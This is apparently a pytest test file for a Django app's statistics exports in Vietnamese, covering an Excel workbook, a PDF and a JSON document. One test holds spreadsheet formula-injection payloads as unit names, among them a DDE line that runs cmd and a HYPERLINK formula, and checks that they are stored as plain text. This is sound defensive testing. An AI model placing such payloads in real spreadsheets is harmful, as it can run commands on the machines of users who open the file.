"""Statistics exports read back: the workbook with openpyxl, the PDF with pypdf, the JSON document."""

from __future__ import annotations

import json
from io import BytesIO
from pathlib import Path

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader

from danhgia.apps.orgs.models import Unit
from danhgia.apps.reports.exports.data import statistics_document
from danhgia.apps.reports.exports.pdf import statistics_pdf
from danhgia.apps.reports.exports.xlsx import HEADER_ROW, _print_layout, statistics_workbook
from danhgia.apps.reports.selectors import Statistics, statistics
from danhgia.apps.reports.services import summaries_refresh
from danhgia.apps.reports.tests.helpers import NOW, open_cycle, reports_world, the_2025_results

pytestmark = pytest.mark.django_db


@pytest.fixture
def stats() -> Statistics:
    world = reports_world()
    cycle = open_cycle(world)
    the_2025_results(world, cycle)
    summaries_refresh(cycle=cycle, now=NOW)
    return statistics(cycle=cycle, unit=world.province)


def test_the_workbook_has_a_summary_and_one_sheet_per_subject_with_the_tree_indented(stats: Statistics) -> None:
    out = BytesIO()
    with translation.override("vi"):
        statistics_workbook(stats, out)
    book = load_workbook(BytesIO(out.getvalue()))

    assert book.sheetnames == ["Tổng hợp", "Tổ chức đảng", "Tập thể lãnh đạo, quản lý", "Cơ quan, đơn vị", "Đảng viên"]
    members = list(book["Đảng viên"].iter_rows(values_only=True))
    assert members[0][0] == "Đảng viên"
    header = members[6]
    assert header[:9] == (
        "Mã",
        "Đơn vị / dòng",
        "Cấp",
        "Tổng số",
        "Miễn đánh giá",
        "Không xếp loại",
        "Chờ quyết định",
        "Chưa có kết quả",
        "Đã xếp loại",
    )
    assert header[9:11] == ("HTXSNV (số lượng)", "HTXSNV (%)")
    # the node: 6 members, 1 exempt, 1 not classified, 1 without a result, 3 classified: 2 L1 (66.7 %), 1 L2
    assert members[7][:15] == ("TU", "Tỉnh ủy Hà Tĩnh — tất cả", 0, 6, 1, 1, 0, 1, 3, 2, 66.7, 1, 33.3, 0, 0.0)
    assert members[7][17:] == (66.7, 3, 2)
    assert [r[1] for r in members[8:10]] == ["Lãnh đạo, quản lý", "Không giữ chức vụ lãnh đạo, quản lý"]
    marker = [r[0] for r in members].index("Theo đơn vị (toàn bộ các đơn vị trực thuộc của mỗi đơn vị)")
    assert members[marker + 1] == header
    tree = members[marker + 2 :]
    assert [(r[0], r[1], r[2], r[3]) for r in tree] == [
        ("TU", "Tỉnh ủy Hà Tĩnh", 0, 6),
        ("DB-SNV", "Đảng bộ Sở Nội vụ", 1, 6),
        ("CB-VP", "Chi bộ Văn phòng", 2, 6),
    ]
    sheet = book["Đảng viên"]
    assert [sheet.cell(row=marker + 3 + i, column=2).alignment.indent for i in range(3)] == [0, 1, 2]
    assert all(not str(c).startswith("=") for row in members for c in row if c is not None)

    summary = list(book["Tổng hợp"].iter_rows(values_only=True))
    by_subject = {r[0]: r[1:7] for r in summary[7:11]}
    assert by_subject == {
        "Tổ chức đảng": (4, 0, 1, 0, 0, 3),
        "Tập thể lãnh đạo, quản lý": (1, 0, 0, 1, 0, 0),
        "Cơ quan, đơn vị": (1, 0, 0, 0, 0, 1),
        "Đảng viên": (6, 1, 1, 0, 1, 3),
    }
    reasons = [r for r in summary if r and r[3] in ("exempt_from_activities", "newly_formed", "by_decision")]
    assert [(r[0], r[1], r[2], r[4]) for r in reasons] == [
        ("Tổ chức đảng", "Không xếp loại", "newly_formed", 1),
        ("Đảng viên", "Miễn đánh giá, xếp loại", "được miễn công tác và sinh hoạt đảng", 1),
        ("Đảng viên", "Không xếp loại", "do cấp có thẩm quyền quyết định", 1),
    ]


NAMES = {
    "TU": '=HYPERLINK("http://x"&A1,"y")',
    "DB-SNV": "+cmd|' /C calc'!A0",
    "CB-VP": "@SUM(1+1)",
    "SNV": "-2+3",
}


def test_unit_names_that_look_like_formulas_are_written_as_text() -> None:
    world = reports_world()
    cycle = open_cycle(world)
    the_2025_results(world, cycle)
    summaries_refresh(cycle=cycle, now=NOW)
    for code, name in NAMES.items():
        Unit.objects.filter(code=code).update(name=name)
    out = BytesIO()

    with translation.override("vi"):
        statistics_workbook(statistics(cycle=cycle, unit=Unit.objects.get(code="TU")), out)

    book = load_workbook(BytesIO(out.getvalue()))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    members = [cell for cell in cells if cell.parent.title == "Đảng viên"]
    assert {cell.value for cell in members if cell.column == 2 and cell.value in NAMES.values()} == {
        NAMES["TU"],
        NAMES["DB-SNV"],
        NAMES["CB-VP"],
    }
    assert all(cell.quotePrefix for cell in cells if cell.value in NAMES.values())
    assert book["Tổng hợp"]["B3"].value == f"TU — {NAMES['TU']}"


def test_the_workbook_tree_can_stop_at_a_depth(stats: Statistics) -> None:
    out = BytesIO()
    statistics_workbook(stats, out, depth=1)
    rows = list(load_workbook(BytesIO(out.getvalue()))["Tổ chức đảng"].iter_rows(values_only=True))
    marker = [r[0] for r in rows].index("Theo đơn vị (toàn bộ các đơn vị trực thuộc của mỗi đơn vị)")
    assert [r[0] for r in rows[marker + 2 :]] == ["TU", "DB-SNV"]  # not the cells two levels down


def test_the_pdf_has_a_page_per_subject_and_the_figures_in_vietnamese(stats: Statistics) -> None:
    with translation.override("vi"):
        data = statistics_pdf(stats)
    reader = PdfReader(BytesIO(data))

    assert data.startswith(b"%PDF-")
    assert len(reader.pages) == 1 + 4  # the summary, then party organisations, boards, agencies, members
    first = reader.pages[0].extract_text()
    assert "Thống kê kết quả kiểm điểm, đánh giá, xếp loại chất lượng" in first
    assert "Tỉnh ủy Hà Tĩnh (TU)" in first
    assert "Tiến độ thực hiện" in first
    members = reader.pages[4].extract_text()
    assert "Đảng viên — Tỉnh ủy Hà Tĩnh" in members
    assert "66,7" in members and "33,3" in members
    assert "DB-SNV Đảng bộ Sở Nội vụ" in members  # the drill-down row
    assert "được miễn công tác và sinh hoạt đảng" in members


def test_the_json_document_carries_codes_and_exact_shares(stats: Statistics) -> None:
    document = json.loads(json.dumps(statistics_document(stats)))
    assert document["format"] == "danhgia-statistics/1"
    assert document["unit"] == {"code": "TU", "name": "Tỉnh ủy Hà Tĩnh", "kind": "party_committee"}
    members = next(s for s in document["subjects"] if s["subject"] == "party_member")["figures"]
    assert members["levels"]["L1"] == {"count": 2, "percent": "66.7"}
    assert members["basis"] == {"decided": 3, "proposed": 2}
    assert [c["code"] for c in document["children"]] == ["DB-SNV", "SNV"]
    assert document["trend"][-1]["cycle"] == stats.cycle.pk


def test_the_xlsx_prints_landscape_fitting_the_width_with_its_header_repeated(tmp_path: Path) -> None:
    """Column widths, landscape A4, fit to the page's width, the header row repeated on each page."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    _print_layout(sheet, [16, 48, 8, 12])
    sheet.append(["a"])
    book.save(tmp_path / "s.xlsx")
    read = load_workbook(tmp_path / "s.xlsx")["s"]
    assert [read.column_dimensions[c].width for c in "ABCD"] == [16, 48, 8, 12]
    assert (read.page_setup.orientation, read.page_setup.paperSize) == ("landscape", 9)
    assert (read.page_setup.fitToWidth, read.page_setup.fitToHeight) == (1, 0)
    assert read.sheet_properties.pageSetUpPr is not None and read.sheet_properties.pageSetUpPr.fitToPage is True
    assert read.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
